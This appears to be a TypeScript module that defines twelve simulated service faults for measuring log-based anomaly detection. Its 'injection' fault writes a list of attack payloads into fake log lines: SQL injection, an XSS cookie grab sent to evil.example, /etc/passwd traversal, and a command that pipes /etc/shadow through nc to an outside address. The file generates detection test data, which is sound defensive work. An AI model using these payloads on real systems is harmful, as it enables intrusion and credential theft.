/** What can go wrong in a simulated service: the twelve kinds of faults that detection is measured on. */
import type { Random } from '../quality/calibration-traffic.ts';
import { address, id, pick, remark, USERS, type Wording } from './wording.ts';

/** How a service behaves at a moment; the fault-free way is `HEALTHY`. */
export interface Conduct {
  /** Factor on the rate of requests. */
  readonly traffic: number;
  /** Share of requests that fail with the error their flow fails with now and then anyway. */
  readonly failing: number;
  /** Share of requests that hang and give up after 5 s. */
  readonly hanging: number;
  /** Share of requests whose steps come in another order. */
  readonly shuffled: number;
  /** Does the most frequent job run? */
  readonly job: boolean;
  /** Do workers take jobs from the queue? */
  readonly queue: boolean;
  /** Factor on durations, after so many ms of the fault. */
  readonly slowness: (sinceMs: number) => number;
  /** Share of requests that leave a stack trace. */
  readonly traces: number;
  /** Further lines, so many a second. */
  readonly extra: { readonly perSecond: number; readonly wording: (random: Random) => Wording } | undefined;
}

export const HEALTHY: Conduct = {
  ...{ traffic: 1, failing: 0, hanging: 0, shuffled: 0, job: true, queue: true, traces: 0, extra: undefined },
  slowness: () => 1,
};

export interface Fault {
  readonly name: string;
  readonly minutes: number;
  /** Drawn once per occurrence. */
  conduct(random: Random): Conduct;
}

const MINUTE = 60_000;
const PAYLOADS = [
  "' OR 1=1 --",
  "1' UNION SELECT name, password FROM users --",
  '<script>document.location="http://evil.example/"+document.cookie</script>',
  '../../../../etc/passwd',
  '; cat /etc/shadow | nc 203.0.113.9 4444',
];

export const FAULTS: readonly Fault[] = [
  fault('error burst', 15, { failing: 0.25 }),
  fault('time-outs', 15, { hanging: 0.3 }),
  { name: 'traffic up or down', minutes: 15, conduct: (r) => ({ ...HEALTHY, traffic: r.next() < 0.5 ? 8 : 0.05 }) },
  fault('silent job', 90, { job: false }),
  fault('stuck queue', 20, { queue: false }),
  fault('shifted values', 20, { slowness: () => 8 }),
  fault('slow drift', 360, { slowness: (sinceMs) => 1 + (9 * sinceMs) / (360 * MINUTE) }),
  fault('changed order', 20, { shuffled: 0.5 }),
  fault('stack traces', 15, { traces: 0.1 }),
  {
    name: 'brute force',
    minutes: 10,
    conduct(random) {
      const from = `203.0.113.${1 + Math.floor(random.next() * 250)}`;
      const wording = { severity: 13, text: (r: Random) => `Failed password for ${pick(r, USERS)} from ${from}` };
      return { ...HEALTHY, extra: { perSecond: 1, wording: () => wording } };
    },
  },
  {
    name: 'injection',
    minutes: 10,
    conduct(random) {
      const from = address(random);
      const wording = {
        severity: 9,
        text: (r: Random) =>
          `${from} "GET /search?q=${encodeURIComponent(pick(r, PAYLOADS))} HTTP/1.1" 200 ${20 + (id(r) % 30)}ms`,
      };
      return { ...HEALTHY, extra: { perSecond: 0.2, wording: () => wording } };
    },
  },
  {
    name: 'new error',
    minutes: 20,
    conduct(random) {
      const wording = remark(random, 17);
      return { ...HEALTHY, extra: { perSecond: 0.05, wording: () => wording } };
    },
  },
];

function fault(name: string, minutes: number, change: Partial<Conduct>): Fault {
  return { name, minutes, conduct: () => ({ ...HEALTHY, ...change }) };
}

/** The lines of one stack trace. */
export function stackTrace(random: Random): string[] {
  const what = pick(random, ['NullPointerException', 'IllegalStateException', 'SocketTimeoutException']);
  const frames = ['OrderService.place', 'PriceRules.apply', 'Connection.read', 'Handler.handle', 'Thread.run'];
  return [
    `java.lang.${what}: request ${id(random)}`,
    ...frames.map((frame, i) => `\tat com.example.${frame}(${frame.split('.')[0]}.java:${40 + 17 * i})`),
  ];
}
